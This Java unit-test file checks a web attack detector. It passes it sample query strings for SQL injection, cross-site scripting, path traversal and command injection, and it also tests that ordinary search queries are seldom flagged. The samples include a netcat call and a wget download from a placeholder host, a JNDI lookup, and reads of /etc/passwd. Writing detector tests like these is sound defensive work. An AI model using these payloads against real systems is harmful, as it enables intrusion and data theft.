// SPDX-License-Identifier: Apache-2.0
package dev.sluice.detector.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AttackScorerTest {

    private final AttackScorer scorer = new AttackScorer();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "id=7%20or%207=7",
                "id=7'%20or%20'x'='x",
                "id=-5+union+all+select+name,pass+from+users--",
                "id=5/**/union/**/select/**/1,2",
                "id=5%2520union%2520select%25201",
                "q=%df'%20or%201=1%23",
                "id=3;drop+table+orders",
                "id=3;waitfor+delay+'0:0:9'--",
                "id=3)+and+sleep(9)+and+(1=1",
                "user=root'--",
                "id=3+and+ascii(substring((select+database()),1,1))>77",
                "sort=(case+when+1=1+then+name+else+price+end)",
                "id=3+procedure+analyse()",
                "name[$ne]=x",
                "id=3+and+extractvalue(1,concat(0x7e,version()))",
            })
    void injectionsIntoSql(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.SQL_INJECTION))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "q=<script>alert(1)</script>",
                "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                "u=javascript:alert(document.cookie)",
                "q=%22%3E%3Csvg/onload=fetch(1)%3E",
            })
    void scripts(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.CROSS_SITE_SCRIPTING))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "f=../../../../etc/passwd",
                "f=..%2f..%2fwp-config.php",
                "f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
                "f=php://filter/x"
            })
    void traversals(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.PATH_TRAVERSAL))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "h=;cat+/tmp/x",
                "h=$(id)",
                "h=`whoami`",
                "h=1|nc+192.0.2.1+99",
                "h=%26%26+wget+http://192.0.2.1/x",
                "x=${jndi:ldap://a/b}"
            })
    void commands(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.COMMAND_INJECTION))
                .as(query)
                .isTrue();
    }

    @Test
    void traversalInThePath() {
        assertThat(scorer.score("/static/..%2f..%2f..%2fetc/passwd", null).has(AttackClass.PATH_TRAVERSAL))
                .isTrue();
    }

    /** What people search and programs ask: sentences with quotes and SQL's words, JSON, dates, prices, names, addresses, tokens. */
    @Test
    void ordinaryQueriesAreNone() {
        String[] words = {
            "select",
            "union",
            "order",
            "where",
            "from",
            "having",
            "group",
            "update",
            "drop",
            "table",
            "and",
            "or",
            "not",
            "like",
            "in",
            "between",
            "blue",
            "shoes",
            "hotel",
            "cheap",
            "flights",
            "O'Brien",
            "rock 'n' roll",
            "12\" vinyl",
            "women's",
            "5' 11\"",
            "C++",
            "50%",
            "a&b",
            "R&D",
            "24/7",
            "iPhone 15",
            "case",
            "when",
            "then",
            "exec",
            "set",
            "values",
            "count",
            "sum",
            "left",
            "right",
            "night",
            "before",
            "the",
            "of",
            "a",
            "credit union",
            "student union",
            "select committee",
            "fish & chips",
            "e-mail",
            "1990",
            "2026-11-28",
            "no. 7",
            "(used)",
            "size: M",
            "wi-fi",
            "4x4",
            "#1",
            "@home"
        };
        Random random = new Random(7);
        List<String> found = new ArrayList<>();
        int queries = 20_000;
        for (int i = 0; i < queries; i++) {
            StringBuilder text = new StringBuilder();
            for (int word = 1 + random.nextInt(6); word > 0; word--) {
                text.append(text.isEmpty() ? "" : " ").append(words[random.nextInt(words.length)]);
            }
            String value = random.nextInt(10) == 0 ? '"' + text.toString().replace("\"", "") + '"' : text.toString();
            String query = switch (random.nextInt(4)) {
                case 0 ->
                    "page=" + random.nextInt(99) + "&sort=price_asc&q="
                            + java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
                case 1 ->
                    "filter="
                            + java.net.URLEncoder.encode(
                                    "{\"name\":\"" + value.replace("\"", "\\\"") + "\",\"max\":" + random.nextInt(999)
                                            + "}",
                                    java.nio.charset.StandardCharsets.UTF_8);
                default -> "q=" + java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
            };
            if (scorer.score("/search", query).any()) {
                found.add(query);
            }
        }
        assertThat(found.size())
                .as("found in %d: %s", queries, found.stream().limit(20).toList())
                .isLessThanOrEqualTo(queries / 2000);
    }
}
